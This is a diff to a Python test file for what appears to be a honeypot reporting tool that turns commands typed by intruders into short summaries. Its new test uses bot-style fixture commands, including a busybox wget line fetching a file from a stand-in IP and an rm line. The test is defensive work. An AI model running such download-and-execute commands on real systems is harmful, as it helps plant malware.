@@ -78,8 +78,18 @@ def test_what_a_stranger_typed_is_made_safe_and_short() -> None:
     told = sentences(replace(BARE, entries=(typed,), fetches=(replace(FETCH, name="n" * 999, url="\n" * 999),)))
     assert all(text.isprintable() for text in told)
     assert max(map(len, told)) < 500
-    assert told[1].count(";") == TOLD_COMMANDS
-    assert told[1].endswith("; … (looks like a bot)")
+    assert told[1].endswith("(looks like a bot)")
+
+
+def test_of_many_commands_the_first_are_told_and_those_that_fetch() -> None:
+    lines = [f"c{n}; /bin/busybox ECCHI" for n in range(9)]
+    lines += ["/bin/busybox wget http://198.51.100.1/a -O - > x; /bin/busybox ECCHI", "rm x; /bin/busybox ECCHI"]
+    typed = replace(LOGIN, commands=tuple(lines), reading=Reading(points=9))
+    assert sentences(replace(BARE, entries=(typed,)))[1] == (
+        "ran: c0; c1; c2; c3; c4; …; /bin/busybox wget http://198.51.100.1/a -O - > x; … (looks like a bot)"
+    )
+    few = replace(typed, commands=tuple(lines[:TOLD_COMMANDS]))
+    assert "…" not in sentences(replace(BARE, entries=(few,)))[1]
 
 
 def test_the_evidence_is_json_in_the_order_of_time() -> None:
